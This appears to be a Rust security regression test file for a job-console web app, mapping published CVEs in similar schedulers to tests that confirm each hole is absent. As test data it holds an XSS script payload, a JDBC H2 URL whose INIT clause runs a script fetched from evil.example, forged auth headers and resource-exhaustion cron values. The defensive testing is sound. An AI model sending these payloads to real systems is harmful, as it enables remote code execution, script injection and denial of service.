//! The published weaknesses of other consoles for jobs, each with a test that shows that this one does not have it.
//! `docs/security.md` has the same table.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::header::{AUTHORIZATION, CONTENT_TYPE};
use axum::http::{Request, StatusCode};
use elasticjob::config::JobSettings;
use elasticjob::ident::InstanceId;
use elasticjob::registry::memory::MemoryRegistry;
use elasticjob::registry::{CreateMode, RegistryCenter, Transaction};
use elasticjob::trace::{JobEvent, JobExecutionEvent};
use serde_json::{Value, json};

use crate::access::{Permission, Role};
use crate::router::{Declared, declared};
use crate::testing::traced::{Folder, failed, line, run};
use crate::testing::{
    call, console_of, cookie_of, job_settings, json as with_json, login, request, start_job, with_users,
};
use crate::{Console, ConsoleOptions, Registry};

/// Each weakness, and its test here.
const PUBLISHED: [(&str, &str); 11] = [
    ("CVE-2020-23814", "names_that_others_chose_are_text_on_every_page"),
    ("CVE-2021-41238", "a_console_with_the_usual_options_is_open_to_nobody"),
    ("CVE-2022-22733", "nobody_reads_what_would_make_them_more_than_they_are"),
    ("CVE-2022-31764", "no_request_can_bring_an_address_to_connect_to"),
    ("CVE-2022-36157", "a_user_with_a_small_role_calls_nothing_that_needs_more"),
    ("CVE-2022-43183", "a_trigger_goes_to_instances_of_the_registry_center_alone"),
    ("CVE-2023-26120", "what_a_job_says_of_itself_is_text_on_every_page"),
    ("CVE-2023-26141", "no_parameter_of_a_page_keeps_the_console_or_the_browser_busy"),
    ("CVE-2023-29922", "users_are_not_made_or_listed_without_a_login"),
    ("CVE-2024-32887", "parameters_of_a_page_come_back_as_text"),
    ("CVE-2025-11581", "nothing_runs_without_a_login_or_a_token_with_the_role"),
];

/// It would run, if a page had it as it is.
const HOSTILE: &str = "\"'><script>alert(1)</script>";

/// The same without a slash, as the name of a node of the registry center.
const HOSTILE_NODE: &str = "\"'><script>alert(1)<b>";

/// All parameters that pages read.
const PARAMETERS: [&str; 35] = [
    "after", "at", "concern", "cron", "cursor", "days", "format", "from", "instance", "ip", "item", "job", "kind",
    "level", "limit", "next", "owner", "page", "path", "q", "records", "result", "running", "since", "sort", "source",
    "span", "state", "status", "until", "version", "what", "who", "with", "zone",
];

#[test]
fn the_documentation_has_each_weakness_with_its_test() {
    let page = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/security.md");
    let page = std::fs::read_to_string(page).expect("the page is there");
    for (cve, test) in PUBLISHED {
        assert!(page.lines().any(|line| line.contains(cve) && line.contains(test)), "docs/security.md: {cve} {test}");
        assert!(include_str!("published_weaknesses.rs").contains(&format!("fn {test}()")), "{test} is a test");
    }
    assert_eq!(page.matches("| CVE-").count(), PUBLISHED.len());
}

/// The path of a route, with a text in the place of the names that the caller is free to choose.
fn path_of(route: &Declared, name: &str) -> String {
    let path = route.path.replace("{registry}", "default").replace("{job}", "settle").replace("{item}", "0");
    let name = crate::pages::segment(name);
    ["{server}", "{fire}", "{name}", "{version}", "{run}", "{alarm}"]
        .iter()
        .fold(path, |path, part| path.replace(part, &name))
}

fn gets(console: &Console) -> Vec<Declared> {
    let gets: Vec<Declared> = declared(console.app().clone()).into_iter().filter(|it| it.method == "GET").collect();
    assert!(gets.len() > 20);
    gets
}

/// The pages of an admin, none of which may have this text as it is.
async fn pages_are_without(console: &Console, admin: &str, path: impl Fn(&Declared) -> String, text: &str) {
    let mut pages = 0;
    for route in gets(console) {
        let path = path(&route);
        let answer = call(console, request("GET", &path, Some(admin))).await;
        if answer.headers.get(CONTENT_TYPE).is_some_and(|kind| kind == "text/html; charset=utf-8") {
            assert!(!answer.body.contains(text), "{path}: {}", answer.body);
            pages += 1;
        }
    }
    assert!(pages > 10, "{pages} pages were looked at");
}

/// ElasticJob-UI gave a guest the login of root.
#[tokio::test]
async fn nobody_reads_what_would_make_them_more_than_they_are() {
    let console = console_of(&MemoryRegistry::new());
    let (admin, viewer) = (cookie_of(&console, "admin").await, cookie_of(&console, "viewer").await);
    let secret = admin.split_once('=').expect("a cookie").1;
    for (cookie, route) in gets(&console).iter().flat_map(|route| [(&admin, route), (&viewer, route)]) {
        let answer = call(&console, request("GET", &path_of(route, "none"), Some(cookie))).await;
        let has = |text: &str| answer.body.contains(text);
        assert!(!has("argon2") && !has(secret) && !has("sha256:"), "{}: {}", route.path, answer.body);
    }
    let more = json!({ "grants": [{ "role": "admin" }], "enabled": true });
    let own = call(&console, with_json("PUT", "/api/v1/users/viewer", &viewer, &more)).await;
    assert_eq!(own.status, StatusCode::FORBIDDEN);
}

/// ElasticJob-UI connected to a database whose JDBC URL a visitor gave, with a driver that ran what the URL said.
#[tokio::test]
async fn no_request_can_bring_an_address_to_connect_to() {
    let console = console_of(&MemoryRegistry::new());
    let document = call(&console, request("GET", "/api/v1/openapi.json", None)).await.body;
    let document: Value = serde_json::from_str(&document).expect("JSON");
    let schemas = document["components"]["schemas"].as_object().expect("schemas");
    let paths = document["paths"].as_object().expect("paths").values();
    let routes = paths.flat_map(|path| path.as_object().expect("routes").values());
    let asked: BTreeSet<&str> = routes
        .filter_map(|route| route.get("requestBody"))
        .map(|body| body["content"]["application/json"]["schema"]["$ref"].as_str().expect("a schema with a name"))
        .map(|schema| schema.strip_prefix("#/components/schemas/").expect("a schema of the document"))
        .collect();
    assert!(asked.len() > 8 && ["JobSettings", "NewUser", "Wanted"].iter().all(|one| asked.contains(one)), "{asked:?}");
    for name in asked {
        let fields = schemas[name]["properties"].as_object().expect("fields").keys();
        let is_address = |field: &&String| {
            let field = field.to_lowercase();
            ["url", "jdbc", "driver", "host", "address", "server"].iter().any(|part| field.contains(part))
        };
        assert_eq!(fields.filter(is_address).count(), 0, "{name}");
    }
    let admin = cookie_of(&console, "admin").await;
    let url = json!({ "url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", "serverLists": "evil.example:2181" });
    for (method, path) in
        [("POST", "/api/v1/registries"), ("POST", "/api/v1/data-sources"), ("PUT", "/api/v1/registries/new")]
    {
        let answer = call(&console, with_json(method, path, &admin, &url)).await;
        assert!(
            matches!(answer.status, StatusCode::METHOD_NOT_ALLOWED | StatusCode::NOT_FOUND),
            "{path} {}",
            answer.status
        );
    }
    for kind in ["registries", "data-sources"] {
        let path = format!("/api/v1/{kind}/evil.example/checks");
        let answer = call(&console, with_json("POST", &path, &admin, &url)).await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}: a name that the settings do not have");
    }
}

/// XXL-JOB let each user call what is for administrators. `router::tests` calls each route as each role; this adds that no role
/// counts beyond its registry centers and jobs.
#[tokio::test]
async fn a_user_with_a_small_role_calls_nothing_that_needs_more() {
    let memory = MemoryRegistry::new();
    let mut options = with_users();
    let grant = crate::Grant::everywhere(Role::Admin).registries("other").jobs("billing-*");
    options.users.push(crate::User::new("team", crate::testing::hash(), [grant]));
    let registry = Registry::new("default", Arc::new(memory.connect()));
    let console = Console::new(options, [registry]).expect("the options are right");
    let team = cookie_of(&console, "team").await;
    for route in declared(console.app().clone()) {
        if let Permission::Has(_) | Permission::HasForSome(_) = route.permission {
            let answer = call(&console, request(route.method, &path_of(&route, "none"), Some(&team))).await;
            assert_eq!(answer.status, StatusCode::FORBIDDEN, "{} {}", route.method, route.path);
        }
    }
}

/// XXL-JOB sent a trigger, with its access token, to the address that came with the request.
#[tokio::test]
async fn a_trigger_goes_to_instances_of_the_registry_center_alone() {
    let memory = MemoryRegistry::new();
    let _job = start_job(&memory, "settle", &JobSettings::default()).await;
    let console = console_of(&memory);
    let admin = cookie_of(&console, "admin").await;
    let path = "/api/v1/registries/default/jobs/settle/triggers";
    for name in ["address", "addressList", "url", "server", "instance"] {
        let body = json!({ "reason": "", name: "http://evil.example/" });
        let answer = call(&console, with_json("POST", path, &admin, &body)).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{name}: {}", answer.body);
    }
    let unknown = "/api/v1/registries/default/jobs/settle/servers/evil.example/state";
    let answer = call(&console, with_json("PUT", unknown, &admin, &json!({ "enabled": true }))).await;
    assert_eq!(answer.status, StatusCode::NOT_FOUND, "{}", answer.body);
}

/// XXL-JOB showed the description of a job as HTML.
#[tokio::test]
async fn what_a_job_says_of_itself_is_text_on_every_page() {
    let memory = MemoryRegistry::new();
    let props = [("note".to_owned(), HOSTILE.to_owned())];
    let settings = job_settings(|settings| {
        settings.description = Some(HOSTILE.to_owned());
        settings.job_parameter = Some(HOSTILE.to_owned());
        settings.props = Some(props.into());
    });
    let _job = start_job(&memory, "settle", &settings).await;
    let console = console_of(&memory);
    let admin = cookie_of(&console, "admin").await;
    let page = call(&console, request("GET", "/r/default/jobs/settle/configuration", Some(&admin))).await;
    assert!(page.body.contains("&#60;script&#62;alert(1)"), "it is shown: {}", page.body);
    pages_are_without(&console, &admin, |route| path_of(route, "none"), "<script>alert").await;
}

/// XXL-JOB showed names and addresses of executors as HTML. Here they come from the registry center, from traces, and from logins.
#[tokio::test]
async fn names_that_others_chose_are_text_on_every_page() {
    let (memory, folder) = (MemoryRegistry::new(), Folder::new("names"));
    let _job = start_job(&memory, "settle", &JobSettings::default()).await;
    let instance = format!("{HOSTILE_NODE}@-@7");
    let mut nodes = Transaction::new();
    nodes.create(format!("/settle/servers/{HOSTILE_NODE}"), "", CreateMode::Persistent);
    nodes.create(format!("/settle/instances/{instance}"), "", CreateMode::Persistent);
    memory.connect().commit(nodes).await.expect("they are made");
    let at = 1_700_000_000_000;
    let traced = JobExecutionEvent {
        id: HOSTILE.into(),
        run_id: HOSTILE.into(),
        hostname: HOSTILE.into(),
        instance: InstanceId::new(&instance).expect("an instance"),
        ..failed(run("settle", 0, Some(at), at, Some(at + 9)), HOSTILE)
    };
    folder.write([JobEvent::Execution(traced.clone()), line(&traced, 1, HOSTILE)]).await;
    let console = folder.console(&memory).await;
    call(&console, login(HOSTILE, "wrong horse battery", "/")).await;
    let admin = cookie_of(&console, "admin").await;
    let segment = crate::pages::segment;
    let records = "?from=2023-11-14T00:00:00Z&until=2023-11-15T00:00:00Z";
    for page in [
        "/access".to_owned(),
        "/r/default/servers".to_owned(),
        format!("/r/default/servers/{}", segment(HOSTILE_NODE)),
        "/r/default/jobs/settle".to_owned(),
        "/r/default/nodes?path=/settle/servers".to_owned(),
        format!("/r/default/history/executions{records}"),
        "/r/default/jobs/settle/runs/2023-11-14T22:13:20Z".to_owned(),
        format!("/r/default/jobs/settle/log/{}", segment(HOSTILE)),
    ] {
        let shown = call(&console, request("GET", &page, Some(&admin))).await;
        assert_eq!(shown.status, StatusCode::OK, "{page}: {}", shown.body);
        assert!(shown.body.contains("&#60;script&#62;alert(1)"), "{page} shows it: {}", shown.body);
        assert!(!shown.body.contains("<script>alert"), "{page}: {}", shown.body);
    }
    for name in [HOSTILE, HOSTILE_NODE] {
        pages_are_without(&console, &admin, |route| path_of(route, name), "<script>alert").await;
    }
}

/// Sidekiq wrote a parameter of its dashboard into the page as it was.
#[tokio::test]
async fn parameters_of_a_page_come_back_as_text() {
    let memory = MemoryRegistry::new();
    let _job = start_job(&memory, "settle", &JobSettings::default()).await;
    let console = console_of(&memory);
    let admin = cookie_of(&console, "admin").await;
    for name in PARAMETERS {
        let query = form_urlencoded::Serializer::new(String::new()).append_pair(name, HOSTILE).finish();
        pages_are_without(&console, &admin, |route| format!("{}?{query}", path_of(route, "none")), "<script>alert")
            .await;
    }
}

/// Sidekiq read again as often, and Oban Web computed as much, as a parameter said.
#[tokio::test]
async fn no_parameter_of_a_page_keeps_the_console_or_the_browser_busy() {
    let memory = MemoryRegistry::new();
    let _job = start_job(&memory, "settle", &JobSettings::default()).await;
    let console = console_of(&memory);
    let admin = cookie_of(&console, "admin").await;
    let limit = Duration::from_secs(30);
    for value in ["999999999999999999", "-1", "0001-01-01T00:00:00Z", "9999999d", "* 1--100000000 * * * ?"] {
        for name in ["days", "limit", "from", "until", "at", "span", "cron", "since", "cursor"] {
            let query = form_urlencoded::Serializer::new(String::new()).append_pair(name, value).finish();
            for route in gets(&console) {
                let path = format!("{}?{query}", path_of(&route, "none"));
                let answer = tokio::time::timeout(limit, call(&console, request("GET", &path, Some(&admin)))).await;
                let answer = answer.unwrap_or_else(|_| panic!("{path} has no answer"));
                assert_ne!(answer.status, StatusCode::INTERNAL_SERVER_ERROR, "{path}");
                assert!(
                    !answer.body.contains("http-equiv"),
                    "{path}: no page reads itself again because of a parameter"
                );
            }
        }
    }
    for cron in ["0 1--100000000 * * * ?", "0 0/100000000 * * * ?", &"1,".repeat(100_000)] {
        let body = json!({ "cron": cron, "count": 50 });
        let asked = call(&console, with_json("POST", "/api/v1/schedules/previews", &admin, &body));
        let answer = tokio::time::timeout(limit, asked).await.expect("it answers");
        assert!(answer.status.is_client_error(), "{}", answer.status);
    }
}

/// PowerJob made and listed accounts without a login.
#[tokio::test]
async fn users_are_not_made_or_listed_without_a_login() {
    let console = console_of(&MemoryRegistry::new());
    let of_accounts = |route: &Declared| {
        ["users", "tokens", "sessions", "access"].iter().any(|part| route.path.split('/').any(|one| one == *part))
    };
    let routes: Vec<Declared> = declared(console.app().clone()).into_iter().filter(of_accounts).collect();
    assert!(routes.len() > 10);
    for route in routes {
        let answer = call(&console, request(route.method, &path_of(&route, "admin"), None)).await;
        let goes_to_login = answer.headers.get("location").is_some_and(|to| to.as_bytes().starts_with(b"/login"));
        let is_refused = answer.status == StatusCode::UNAUTHORIZED || goes_to_login;
        assert!(is_refused && !answer.body.contains("operator"), "{} {}: {}", route.method, route.path, answer.status);
    }
}

/// PowerJob ran jobs for every caller who knew an id.
#[tokio::test]
async fn nothing_runs_without_a_login_or_a_token_with_the_role() {
    let memory = MemoryRegistry::new();
    let _job = start_job(&memory, "settle", &JobSettings::default()).await;
    let console = console_of(&memory);
    let trigger = |authorization: Option<&str>| {
        let path = "/api/v1/registries/default/jobs/settle/triggers";
        let mut request: Request<Body> = request("POST", path, None);
        if let Some(authorization) = authorization {
            request.headers_mut().insert(AUTHORIZATION, authorization.parse().expect("a value"));
        }
        request
    };
    for shown in
        [None, Some("Bearer"), Some("Bearer "), Some("Bearer default_token"), Some("Bearer null"), Some("admin")]
    {
        let answer = call(&console, trigger(shown)).await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{shown:?}");
    }
    let mut by_header = trigger(None);
    for name in ["x-user", "x-forwarded-user", "x-remote-user", "powerjwt", "appid"] {
        by_header.headers_mut().insert(name, "admin".parse().expect("a value"));
    }
    assert_eq!(call(&console, by_header).await.status, StatusCode::UNAUTHORIZED, "no header says who calls");
}

/// Hangfire lost, in an update, the filter that kept other hosts out of a dashboard without options.
#[tokio::test]
async fn a_console_with_the_usual_options_is_open_to_nobody() {
    let registry = || [Registry::new("default", Arc::new(MemoryRegistry::new().connect()))];
    let listen = "0.0.0.0:8899".parse().expect("an address");
    let open = Console::new(ConsoleOptions { listen, ..ConsoleOptions::default() }, registry());
    assert!(open.is_err(), "other hosts would reach a console without users");
    assert!(ConsoleOptions::default().listen.ip().is_loopback());
    let console = Console::new(ConsoleOptions::default(), registry()).expect("loopback");
    let public = [
        "/login",
        "/login/oidc",
        "/login/oidc/callback",
        "/logout",
        "/language",
        "/theme",
        "/healthz",
        "/readyz",
        "/assets/{version}/{name}",
        "/api/v1/openapi.json",
    ];
    for route in declared(console.app().clone()) {
        assert_eq!(route.permission == Permission::Public, public.contains(&route.path), "{route:?}");
        let answer = call(&console, request(route.method, &path_of(&route, "none"), None)).await;
        let is_let_in = answer.status.is_success() && !public.contains(&route.path);
        assert!(!is_let_in, "{} {}: {}", route.method, route.path, answer.status);
    }
}
